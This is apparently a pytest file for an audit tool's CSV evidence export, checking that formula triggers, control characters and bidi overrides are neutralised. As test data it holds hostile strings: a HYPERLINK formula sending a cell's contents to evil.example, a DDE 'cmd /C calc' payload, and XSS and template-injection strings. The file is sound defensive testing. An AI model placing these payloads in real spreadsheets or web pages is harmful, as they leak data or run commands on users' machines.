"""The evidence CSVs: one file per check, the rows behind each finding, safe in a spreadsheet."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

from auditor.report import write_reports
from auditor.report.csv_evidence import neutralise
from auditor.report.document import Report
from tests.report.sample import (
    HOSTILE,
    hostile_model,
    hostile_report,
    report,
    tiny_model,
    tiny_report,
)

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# What each hostile string must read as in a cell: an apostrophe before a formula trigger,
# control characters (other than tab and newline) gone. Spelled out, not recomputed.
NEUTRALISED = {
    "<script>alert('x')</script>": "<script>alert('x')</script>",
    '<img src=x onerror="alert(1)">': '<img src=x onerror="alert(1)">',
    "javascript:alert(document.cookie)": "javascript:alert(document.cookie)",
    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\tleading tab": "'\tleading tab",
    "\rleading return": "'leading return",
    "ctrl \x00\x07\x1b[31m chars": "ctrl [31m chars",
    "| pipe | and `code` and [link](javascript:alert(1)) and *stars*": (
        "| pipe | and `code` and [link](javascript:alert(1)) and *stars*"
    ),
    "]]> </svg></html> {{ 7*7 }} {% raw %}": "]]> </svg></html> {{ 7*7 }} {% raw %}",
}


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def cells(paths: list[Path]) -> list[str]:
    out: list[str] = []
    for path in paths:
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                out.extend(row)
    return out


def write(typed: Report, out: Path) -> list[Path]:
    """The evidence CSVs of a report, written into `out` as `auditor report` writes them."""
    return write_reports(typed, out, ("csv",))


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def with_numeric_finding(model: dict[str, Any]) -> Report:
    """The model plus a finding whose values hold a negative number and the same as text."""
    finding = dict(model["findings"][0])
    finding |= {
        "index": len(model["findings"]),
        "check_id": "flow-failure-rate",
        "values": {"delta": -5, "ratio": -0.25, "label": "-5", "flag": True, "none": None},
        "evidence": [],
    }
    model["findings"].append(finding)
    return report(model)


def test_one_file_per_check_with_findings_and_a_summary(tmp_path: Path) -> None:
    typed = tiny_report()
    paths = write(typed, tmp_path)
    checks = {f.check_id for f in typed.findings}
    assert {p.name for p in paths} == {f"{c}.csv" for c in checks} | {"findings.csv"}
    assert all(p.parent == tmp_path / "evidence" for p in paths)
    summary = read(tmp_path / "evidence" / "findings.csv")
    assert len(summary) == len(typed.findings)
    assert [r["finding"] for r in summary] == [str(f.index) for f in typed.findings]
    assert summary[0]["values"].startswith("{")
    assert '"executions": 87' in summary[0]["values"]


def test_evidence_rows_lead_with_the_finding_and_values_stand_in_without_them(
    tmp_path: Path,
) -> None:
    typed = tiny_report()
    write(typed, tmp_path)
    blocks = read(tmp_path / "evidence" / "flow-repeated-block.csv")
    with_rows = [f for f in typed.findings if f.check_id == "flow-repeated-block"]
    assert len(blocks) == sum(max(1, len(f.evidence)) for f in with_rows)
    first = next(f for f in with_rows if f.evidence)
    rows = [r for r in blocks if r["finding"] == str(first.index)]
    assert [r["start_action"] for r in rows] == [e["start_action"] for e in first.evidence]
    assert all(r["status"] == first.status and r["check_id"] == first.check_id for r in rows)
    # Finding 0 has no evidence rows: its measured values are its one row.
    plugin = read(tmp_path / "evidence" / "plugin-update-unfiltered.csv")
    row = next(r for r in plugin if r["finding"] == "0")
    assert (row["executions"], row["p95_ms"], row["table"]) == ("87", "217.7", "account")
    assert row["suppressed"] == "false"


def test_files_are_utf8_with_a_bom_for_excel(tmp_path: Path) -> None:
    paths = write(tiny_report(), tmp_path)
    assert all(p.read_bytes().startswith(b"\xef\xbb\xbf") for p in paths)
    names = {r["resource_name"] for r in read(tmp_path / "evidence" / "findings.csv")}
    assert "Rechnungsprüfung – Eingang" in names
    assert "請求書の承認" in names


def test_no_text_cell_starts_a_formula(tmp_path: Path) -> None:
    paths = write(with_numeric_finding(hostile_model()), tmp_path)
    every = cells(paths)
    risky = [c for c in every if c.startswith(FORMULA_START) and not is_number(c)]
    assert risky == []
    controls = [c for c in every if any(ord(ch) < 32 and ch not in "\t\n" for ch in c)]
    assert controls == []


def test_each_hostile_string_reads_neutralised(tmp_path: Path) -> None:
    paths = write(hostile_report(), tmp_path)
    every = set(cells(paths))
    assert set(NEUTRALISED) == set(HOSTILE)
    missing = {raw: safe for raw, safe in NEUTRALISED.items() if safe not in every}
    assert missing == {}
    messages = {r["message"] for r in read(tmp_path / "evidence" / "findings.csv")}
    assert "'-2+3 message" in messages
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click") message' in messages


def test_numbers_stay_numbers_and_only_text_is_neutralised(tmp_path: Path) -> None:
    write(with_numeric_finding(tiny_model()), tmp_path)
    rows = read(tmp_path / "evidence" / "flow-failure-rate.csv")
    row = rows[-1]
    assert (row["delta"], row["ratio"]) == ("-5", "-0.25")
    assert row["label"] == "'-5"  # the same characters, but text: neutralised
    assert (row["flag"], row["none"]) == ("true", "")


def test_bidi_overrides_are_dropped_so_they_cannot_hide_a_formula() -> None:
    """U+202E reverses what a cell shows ("Trojan Source"); dropped, the formula under it is
    neutralised like any other."""
    assert neutralise("\u202e=HYPERLINK(1)\u202c") == "'=HYPERLINK(1)"
    assert neutralise("a\u2066b\u2069c") == "abc"
